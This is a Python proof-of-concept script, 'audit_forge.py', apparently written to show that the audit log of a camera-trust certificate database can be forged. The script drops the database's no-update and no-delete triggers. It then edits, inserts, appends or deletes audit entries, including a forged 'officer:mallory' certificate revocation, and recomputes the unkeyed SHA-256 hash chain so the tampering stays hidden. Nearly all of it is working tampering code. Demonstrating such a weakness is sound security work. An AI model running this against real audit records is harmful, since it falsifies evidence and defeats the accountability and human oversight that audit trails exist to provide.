#!/usr/bin/env python3
"""What someone who can write camtrust.db but not use the token can do to the audit chain: edit, insert or
append entries and recompute the unkeyed SHA-256 chain (the format of db/audit.c), triggers dropped.

usage: audit_forge.py DB rechain FROM [TO] recompute prev_hash/hash of entries FROM..TO with plain SHA-256 (TO:
                                           the next entry's prev_hash follows, its own hash is left alone)
       audit_forge.py DB insert SEQ        a forged entry at SEQ (later ones renumbered), chain recomputed
       audit_forge.py DB append            a forged entry after the last, chained with SHA-256
       audit_forge.py DB delete SEQ        entry SEQ deleted, later ones renumbered, chain recomputed
"""
import hashlib
import sqlite3
import struct
import sys


def entry_hash(prev, seq, ts, texts):
    m = bytes(prev) + struct.pack(">qq", seq, ts)
    for t in texts:
        b = (t or "").encode()
        m += struct.pack(">I", len(b)) + b
    return hashlib.sha256(m).digest()


def rechain(db, start, end=None):
    prev = bytes(32)
    if start > 1:
        prev = db.execute("SELECT hash FROM audit WHERE seq = ?", (start - 1,)).fetchone()[0]
    rows = db.execute("SELECT seq, ts, actor, action, subject, outcome, detail FROM audit WHERE seq >= ? AND seq <= ?"
                      " ORDER BY seq", (start, end or 2**62)).fetchall()
    for r in rows:
        h = entry_hash(prev, r[0], r[1], r[2:7])
        db.execute("UPDATE audit SET prev_hash = ?, hash = ? WHERE seq = ?", (prev, h, r[0]))
        prev = h
    if end:
        db.execute("UPDATE audit SET prev_hash = ? WHERE seq = ?", (prev, end + 1))


FORGED = ("officer:mallory", "cert.revoke", "CAM0001", "ok", "forged")


def main():
    db = sqlite3.connect(sys.argv[1])
    db.executescript("DROP TRIGGER IF EXISTS audit_no_update; DROP TRIGGER IF EXISTS audit_no_delete;")
    cmd = sys.argv[2]
    if cmd == "rechain":
        rechain(db, int(sys.argv[3]), int(sys.argv[4]) if len(sys.argv) > 4 else None)
    elif cmd == "insert":
        seq = int(sys.argv[3])
        db.execute("UPDATE audit SET seq = -seq - 1 WHERE seq >= ?", (seq,))
        db.execute("UPDATE audit SET seq = -seq WHERE seq < 0")
        ts = db.execute("SELECT ts FROM audit WHERE seq = ?", (seq + 1,)).fetchone()[0]
        db.execute("INSERT INTO audit (seq, ts, actor, action, subject, outcome, detail, prev_hash, hash)"
                   " VALUES (?, ?, ?, ?, ?, ?, ?, zeroblob(32), zeroblob(32))", (seq, ts) + FORGED)
        rechain(db, seq)
    elif cmd == "append":
        seq, ts = db.execute("SELECT max(seq) + 1, max(ts) FROM audit").fetchone()
        db.execute("INSERT INTO audit (seq, ts, actor, action, subject, outcome, detail, prev_hash, hash)"
                   " VALUES (?, ?, ?, ?, ?, ?, ?, zeroblob(32), zeroblob(32))", (seq, ts) + FORGED)
        rechain(db, seq)
    elif cmd == "delete":
        seq = int(sys.argv[3])
        db.execute("DELETE FROM audit WHERE seq = ?", (seq,))
        db.execute("UPDATE audit SET seq = -(seq - 1) WHERE seq > ?", (seq,))
        db.execute("UPDATE audit SET seq = -seq WHERE seq < 0")
        rechain(db, seq)
    else:
        sys.exit(__doc__)
    db.commit()


main()
